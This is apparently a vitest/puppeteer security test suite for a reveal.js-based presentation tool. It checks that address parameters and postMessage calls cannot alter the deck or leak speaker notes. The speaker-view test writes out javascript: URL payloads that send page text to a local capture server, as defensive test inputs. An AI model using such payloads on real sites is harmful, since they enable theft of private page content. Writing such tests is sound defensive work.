/** What an address or a message asks of a page beyond what is documented is not done: whoever made the link gets nothing. */
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import type { Browser, Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runBuild } from '../../src/build.ts';
import { languageOf } from '../../src/languages/index.ts';
import { withoutQuery } from '../../src/render/reveal-scripts.ts';
import { ownParameters } from '../../src/page/own-windows.ts';
import { startDev, type Dev } from '../../src/serve/dev.ts';
import { readersBrowser } from '../browsers.ts';

const folder = await mkdtemp(join(tmpdir(), 'factdeck-address-'));
const base = fileURLToPath(new URL('../mistakes/_base', import.meta.url));
const reveal = new URL('../../node_modules/reveal.js/', import.meta.url);
const note = 'CANARY private words';
/** What somebody else's server was asked. */
const heard: string[] = [];
let stranger: Server;
let server: Server;
let dev: Dev;
let browser: Browser;
const addressOf = (one: Server) => `127.0.0.1:${String((one.address() as AddressInfo).port)}`;
const listen = (one: Server): Promise<Server> =>
  new Promise((resolve) => {
    one.listen(0, '127.0.0.1', () => {
      resolve(one);
    });
  });

beforeAll(async () => {
  const deck = join(folder, 'kettles');
  await cp(base, deck, { recursive: true });
  const written = await readFile(join(deck, 'deck.yaml'), 'utf8');
  await writeFile(join(deck, 'deck.yaml'), written.replace('The speaker knows more.', note));
  const built = await runBuild(
    {
      decks: [deck],
      publish: true,
      formats: ['html', 'presenter'],
      scale: 1,
      out: folder + '/out',
    },
    () => undefined,
  );
  expect(built.decks.map((d) => d.diagnostics)).toEqual([[]]);
  stranger = await listen(
    createServer((request, response) => {
      heard.push(request.url ?? '');
      response.end();
    }),
  );
  server = await listen(
    createServer((request, response) => {
      const { pathname } = new URL(request.url ?? '', 'http://any');
      readFile(join(folder, 'out', pathname)).then(
        (bytes) => response.setHeader('content-type', 'text/html').end(bytes),
        () => response.writeHead(404).end(),
      );
    }),
  );
  dev = await startDev({
    deck: { path: deck },
    port: 0,
    language: 'en',
    words: languageOf('en').commands.dev,
    failed: (reason) => reason,
    tellSentence: (s) => s.text,
    told: () => undefined,
  });
  browser = await readersBrowser();
});
afterAll(async () => {
  await browser.close();
  await dev.close();
  server.close();
  stranger.close();
  await rm(folder, { recursive: true, force: true });
});

const places: [string, () => string][] = [
  ['on the disk', () => `${pathToFileURL(join(folder, 'out/kettles')).href}/`],
  ['on a server', () => `http://${addressOf(server)}/kettles/`],
  ['under dev', () => dev.url],
];

/** Every setting that reveal knows, by its own declaration. */
async function settings(): Promise<string[]> {
  const declared = await readFile(new URL('dist/config.d.ts', reveal), 'utf8');
  const names = [...declared.matchAll(/^ {4}(\w+)\??:/gm)].map((m) => m[1] ?? '');
  return [...new Set(names)];
}

interface Opened {
  readonly page: Page;
  readonly errors: string[];
}

async function open(url: string): Promise<Opened> {
  const page = await browser.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(url);
  await page.waitForFunction(() => document.documentElement.dataset['ready'] === 'true');
  return { page, errors };
}

async function speakerViewOf(page: Page): Promise<Page> {
  const popup = new Promise<Page>((resolve) => {
    page.once('popup', (p) => {
      if (p) resolve(p);
    });
  });
  await page.keyboard.press('s');
  return popup;
}

/** Reveal's own view of its settings. */
const configOf = (page: Page): Promise<unknown> =>
  page.evaluate(() => {
    const deck = Reflect.get(window, 'deck') as { getConfig: () => object };
    return JSON.stringify(deck.getConfig());
  });
const current = (page: Page): Promise<string> =>
  page.evaluate(() => document.querySelector('.slides > .present')?.id ?? '');

describe.each(places)('%s', (_, where) => {
  it.each(['index.html', 'presenter.html'])(
    '%s: no setting of reveal’s is taken from the address, one by one or all at once',
    async (file) => {
      const names = await settings();
      expect(names.length).toBeGreaterThan(60);
      const plain = await open(where() + file);
      const config = await configOf(plain.page);
      const slides = [await current(plain.page)];
      await plain.page.keyboard.press('ArrowRight');
      slides.push(await current(plain.page));
      await plain.page.close();
      const queries = [
        names.map((name) => `${name}=true`).join('&'),
        names.map((name) => `${name}=x`).join('&'),
        'postMessage=true&postMessageEvents=true',
        'plugins=x',
        'view=scroll',
        'print-pdf',
        'notes',
        'receiver&postMessageEvents=true&controls=false',
      ];
      for (const query of queries) {
        const { page, errors } = await open(`${where()}${file}?${query}`);
        expect(await configOf(page), query).toBe(config);
        const seen = [await current(page)];
        await page.keyboard.press('ArrowRight');
        seen.push(await current(page));
        expect(seen, query).toEqual(slides);
        expect(errors, query).toEqual([]);
        await page.close();
      }
      expect((await browser.pages()).filter((p) => p.url().includes('kettles')).length).toBe(0);
    },
  );

  it('the speaker view opens the page itself, whatever the address says; nobody else hears a note', async () => {
    const away = `http://${addressOf(stranger)}/`;
    const leak = `fetch('${away}leak?'+encodeURIComponent(opener.document.body.innerText))`;
    const planted = [
      `url=javascript:location='${away}notes?'+encodeURIComponent(parent.document.body.innerText)//`,
      `url=${encodeURIComponent(`javascript:${leak}`)}`,
      `url=${encodeURIComponent(away)}`,
      `url=%68ttp%3A%2F%2F${addressOf(stranger)}%2F`,
      `notes&url=${encodeURIComponent(away)}`,
    ];
    for (const query of planted) {
      const { page, errors } = await open(`${where()}presenter.html?${query}`);
      await page.keyboard.press('End');
      const speaker = await speakerViewOf(page);
      await speaker.waitForFunction(
        (words) =>
          document.querySelector('.speaker-controls-notes .value')?.textContent.includes(words),
        { polling: 100 },
        note,
      );
      const frames = await speaker.$$eval('iframe', (all) => all.map((f) => f.src));
      expect(frames.length).toBe(2);
      for (const src of frames) {
        expect(src.replace(/[?#].*$/, '')).toBe(`${where()}presenter.html`);
        expect(new URL(src).searchParams.has('url')).toBe(false);
      }
      expect(errors).toEqual([]);
      await speaker.close();
      await page.close();
    }
    expect(heard).toEqual([]);
  });
});

it('the speaker view’s own frames are the only ones that the documented parameters reach', async () => {
  const { page } = await open(`http://${addressOf(server)}/kettles/presenter.html`);
  const speaker = await speakerViewOf(page);
  const holder = await speaker.waitForSelector('#upcoming-slide iframe');
  const frame = await holder?.contentFrame();
  await frame?.waitForFunction(() => document.documentElement.dataset['ready'] === 'true', {
    polling: 100,
  });
  const asked = new URL(frame?.url() ?? '').searchParams;
  expect(ownParameters.filter((name) => asked.has(name))).toEqual(['receiver', 'controls']);
  const config = await frame?.evaluate(() => {
    const deck = Reflect.get(window, 'deck') as { getConfig: () => { controls: boolean } };
    return deck.getConfig().controls;
  });
  expect(config).toBe(false);
  await speaker.close();
  await page.close();
});

const undocumented = [
  { method: 'configure', args: [{ loop: true }] },
  { method: 'setState', args: [{ indexh: 0, indexv: 0, previewIframe: 'https://example.org/' }] },
  { method: 'slide', args: [0] },
  { method: 'toggleOverview' },
  { namespace: 'reveal-notes', type: 'call', methodName: 'getSlideNotes', callId: 'x' },
  {
    namespace: 'reveal-notes',
    type: 'call',
    methodName: 'configure',
    arguments: [{}],
    callId: 'x',
  },
];

it('not even a window of its own may say to presenter.html what speaker view does not', async () => {
  const { page } = await open(`http://${addressOf(server)}/kettles/presenter.html`);
  const speaker = await speakerViewOf(page);
  await speaker.waitForSelector('#upcoming-slide iframe');
  await page.keyboard.press('ArrowRight');
  const before = [await configOf(page), await current(page)];
  const answered = await speaker.evaluate(
    (all) =>
      new Promise<string[]>((resolve) => {
        const opened = opener as Window;
        const answers: string[] = [];
        addEventListener('message', ({ data }) => {
          const { type, callId } = JSON.parse(String(data)) as { type: string; callId: unknown };
          if (type !== 'return' || typeof callId !== 'string') return;
          answers.push(callId);
          if (callId === 'end') resolve(answers);
        });
        for (const one of all) opened.postMessage(one, '*');
      }),
    [
      ...undocumented,
      { namespace: 'reveal-notes', type: 'call', methodName: 'getSlidePastCount', callId: 'end' },
    ].map((message) => JSON.stringify(message)),
  );
  expect(answered).toEqual(['end']);
  expect([await configOf(page), await current(page)]).toEqual(before);
  expect(await page.$('.r-overlay, .reveal.overview')).toBeNull();
  await speaker.close();
  await page.close();
});

it('reveal without its query is reveal: nothing else is changed', async () => {
  const script = await readFile(new URL('dist/reveal.js', reveal), 'utf8');
  const ours = withoutQuery(script);
  expect(ours).not.toMatch(/location\.search/);
  expect(script.length - ours.length).toBeLessThan(100);
  expect(() => withoutQuery('nothing of the kind')).toThrow('reveal.js');
});
